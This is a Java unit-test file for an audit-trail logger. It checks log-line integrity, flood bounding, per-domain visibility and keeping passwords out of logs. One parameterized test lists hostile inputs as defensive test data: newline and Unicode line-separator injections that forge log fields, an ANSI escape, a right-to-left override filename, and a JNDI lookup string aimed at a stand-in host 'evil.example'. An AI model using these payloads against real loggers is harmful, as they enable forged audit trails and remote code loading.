package org.postern.core.service;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.time.Duration;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.postern.core.Acme;
import org.postern.core.Administrator;
import org.postern.core.AuditEvent;
import org.postern.core.Client;
import org.postern.core.Secret;
import org.postern.core.SetClock;
import org.postern.core.spi.Backend;
import org.slf4j.LoggerFactory;

/** Contract, section 11: nobody forges a line, nobody drowns the trail, nobody reads another's. */
class AuditTrailTest {
    private final Logger logger = (Logger) LoggerFactory.getLogger("org.postern.audit");
    private final ListAppender<ILoggingEvent> lines = new ListAppender<>();
    private final SetClock clock = SetClock.atNoon();
    private final Backend backend = Acme.backend();
    private final Postern postern = new Postern(Acme.settings(Map.of()), backend, clock);
    private final AuditTrail trail = postern.audit();

    @BeforeEach
    void listen() {
        lines.start();
        logger.addAppender(lines);
    }

    @AfterEach
    void stop() {
        logger.detachAppender(lines);
    }

    private Administrator admin(String address) {
        return backend.directory().administrator(Acme.address(address)).orElseThrow();
    }

    private List<AuditEvent> read(String admin) {
        AuditTrail.Wanted all = new AuditTrail.Wanted(
                Optional.empty(), Optional.empty(), Optional.empty(), Optional.empty(), Optional.empty());
        return trail.read(admin(admin), all, 1_000, Optional.empty()).items();
    }

    private AuditEvent refused(String mailbox, Client client) {
        return AuditEvent.of(AuditEvent.Type.REFUSED, clock.instant(), client)
                .about(Acme.address(mailbox))
                .because("unknown");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\nevent=redeemed",
                "x\r\nevent=redeemed",
                "x\u0085event=redeemed",
                "x\u2028event=redeemed",
                "x\u2029event=redeemed",
                "x\u001b[2Kevent",
                "\u202egnp.exe",
                "\" event=\"redeemed",
                "back\\slash\\\" event=\"",
                "\u0000",
                "\ud800",
                "${jndi:ldap://evil.example/x} {} %n"
            })
    void lineOfAnEvent_isOneLineWhateverTheTextsHold(String text) {
        trail.write(AuditEvent.of(AuditEvent.Type.ISSUED, clock.instant(), new Client("192.0.2.1", text))
                .with(org.postern.core.SessionType.SSO, text)
                .because(text));
        assertThat(lines.list).singleElement().satisfies(e -> {
            String line = e.getFormattedMessage();
            assertThat(line).doesNotMatch("(?s).*[\\x00-\\x1f\\x7f-\\x9f\\u2028\\u2029\\u202e].*");
            String unquoted = line.replaceAll("\"(?:[^\"\\\\]|\\\\.)*\"", "\"\"");
            assertThat(unquoted).containsOnlyOnce("event=").startsWith("event=issued id=");
        });
    }

    @Test
    void lineOfAnEvent_tellsWhatItsRowTells() {
        UUID token = UUID.randomUUID();
        AuditEvent event = new AuditEvent(
                UUID.randomUUID(),
                clock.instant(),
                AuditEvent.Type.REFUSED,
                Optional.of(Acme.address("alice@acme.example")),
                Optional.of(Acme.address("mail@acme.example")),
                Optional.of(token),
                Optional.of(org.postern.core.SessionType.SSO),
                "T-1",
                new Client("192.0.2.1", "Browser/1"),
                "login_url: used",
                7);
        trail.write(event);
        assertThat(lines.list)
                .singleElement()
                .extracting(ILoggingEvent::getFormattedMessage)
                .isEqualTo("event=refused id=" + event.id() + " mailbox=\"alice@acme.example\""
                        + " administrator=\"mail@acme.example\" token=\"" + token + "\" type=\"sso\" reason=\"T-1\""
                        + " client=\"192.0.2.1\" agent=\"Browser/1\" detail=\"login_url: used\" count=\"7\"");
    }

    @Test
    void floodFromManyPlaces_isBounded() {
        for (int i = 0; i < 20_000; i++) {
            trail.fold(refused(
                    "alice@acme.example", new Client("10." + i / 65536 + "." + i / 256 % 256 + "." + i % 256, "")));
        }
        clock.advance(Duration.ofSeconds(61));
        trail.flush();
        assertThat(read("company@acme.example")).hasSizeLessThanOrEqualTo(1_000);
        assertThat(lines.list).hasSizeLessThan(1_100);
        int counted = lines.list.stream()
                .map(ILoggingEvent::getFormattedMessage)
                .mapToInt(l ->
                        l.contains(" count=\"") ? Integer.parseInt(l.replaceAll(".* count=\"(\\d+)\".*", "$1")) : 1)
                .sum();
        assertThat(counted).as("every one is told or counted").isEqualTo(20_000);
    }

    private Issuance issue(String user, String life) {
        return postern.tokens()
                .issue(
                        admin("company@acme.example"),
                        new IssueRequest(
                                user, "", Secret.of(""), "T-1", life, "", false, false, false, Client.OPERATOR));
    }

    @Test
    void issue_whateverComesOfIt_namesItsRow() {
        List<UUID> told = List.of(
                issue("alice@acme.example", "").audit(),
                issue("nobody@acme.example", "").audit(),
                issue("dave@globex.example", "").audit(),
                issue("alice@acme.example", "-1").audit());
        assertThat(Stream.concat(read("company@acme.example").stream(), read("company@globex.example").stream())
                        .map(AuditEvent::id))
                .containsAll(told);
    }

    @Test
    void fold_aFlood_namesTheRowThatCountsIt() {
        Set<UUID> told = new HashSet<>();
        for (int i = 0; i < 100; i++) {
            told.add(issue("nobody@acme.example", "").audit());
        }
        clock.advance(Duration.ofSeconds(61));
        trail.flush();
        List<AuditEvent> rows = read("company@acme.example");
        assertThat(rows).hasSize(6).extracting(AuditEvent::id).containsExactlyInAnyOrderElementsOf(told);
        assertThat(rows.stream().mapToInt(AuditEvent::count).sum()).isEqualTo(100);
    }

    @Test
    void fold_guessesAtTwoCompanies_areNeverOneRow() {
        Client client = new Client("192.0.2.1", "");
        for (int i = 0; i < 9; i++) {
            postern.administrators().byPassword("company@globex.example", Secret.of("x"), client);
            postern.administrators().byPassword("company@acme.example", Secret.of("x"), client);
        }
        clock.advance(Duration.ofSeconds(61));
        trail.flush();
        assertThat(read("company@acme.example").stream()
                        .mapToInt(AuditEvent::count)
                        .sum())
                .isEqualTo(9);
        assertThat(read("company@globex.example").stream()
                        .mapToInt(AuditEvent::count)
                        .sum())
                .isEqualTo(9);
    }

    @Test
    void attemptsHeldBack_onInventedAddresses_drownNobody() {
        Client flood = new Client("192.0.2.1", "");
        for (int i = 0; i < 3_000; i++) {
            postern.administrators().byPassword("nobody" + i + "@acme.example", Secret.of("x"), flood);
        }
        postern.tokens()
                .redeem(new LoginAttempt(
                        "bob@acme.example",
                        Secret.of("guess"),
                        org.postern.core.Channel.LOGIN_URL,
                        false,
                        "",
                        new Client("198.51.100.1", "")));
        assertThat(read("mail@acme.example"))
                .hasSizeLessThan(40)
                .anySatisfy(e -> assertThat(e.mailbox()).contains(Acme.address("bob@acme.example")));
    }

    @Test
    void rowOfAnotherDomain_isNotShown() {
        trail.write(refused("alice@acme.example", new Client("192.0.2.1", "")));
        trail.write(refused("carol@acme-labs.example", new Client("192.0.2.1", "")));
        trail.write(refused("dave@globex.example", new Client("192.0.2.1", "")));
        assertThat(read("company@acme.example")).hasSize(2);
        assertThat(read("mail@acme.example")).hasSize(1);
        assertThat(read("company@globex.example")).hasSize(1);
    }

    @Test
    void passwordTypedWhereAnAddressBelongs_isInNoRowAndNoLine() {
        postern.tokens()
                .redeem(new LoginAttempt(
                        "my-password-1",
                        Secret.of("my-password-2"),
                        org.postern.core.Channel.LOGIN_URL,
                        false,
                        "",
                        new Client("192.0.2.1", "")));
        postern.administrators().byPassword("my-password-3", Secret.of("x"), new Client("192.0.2.1", ""));
        postern.tokens()
                .issue(
                        admin("mail@acme.example"),
                        new IssueRequest(
                                "my-password-4",
                                "my-password-5",
                                Secret.of("my-password-6"),
                                "",
                                "my-password-7",
                                "my-password-8",
                                false,
                                false,
                                false,
                                new Client("192.0.2.1", "")));
        assertThat(lines.list).hasSize(3);
        assertThat(lines.list.toString()).doesNotContain("my-password");
    }

    private void issueForAMinute() {
        postern.tokens()
                .issue(
                        admin("mail@acme.example"),
                        new IssueRequest(
                                "alice@acme.example",
                                "",
                                Secret.of(""),
                                "",
                                "60",
                                "",
                                false,
                                false,
                                false,
                                Client.OPERATOR));
    }

    @Test
    void expiredToken_isToldOnce() {
        issueForAMinute();
        assertThat(postern.maintenance().noteExpired()).isZero();
        clock.advance(Duration.ofSeconds(61));
        assertThat(postern.maintenance().noteExpired()).isEqualTo(1);
        assertThat(postern.maintenance().noteExpired()).isZero();
        assertThat(read("mail@acme.example"))
                .extracting(AuditEvent::type)
                .containsExactly(AuditEvent.Type.EXPIRED, AuditEvent.Type.ISSUED);
    }

    @Test
    void purge_keepsWhatTheSettingsSay() {
        issueForAMinute();
        clock.advance(Duration.ofDays(29));
        assertThat(postern.maintenance().purge()).isZero();
        clock.advance(Duration.ofDays(2));
        assertThat(postern.maintenance().purge()).as("the token").isEqualTo(1);
        clock.advance(Duration.ofDays(370));
        assertThat(postern.maintenance().purge()).as("the row").isEqualTo(1);
    }
}
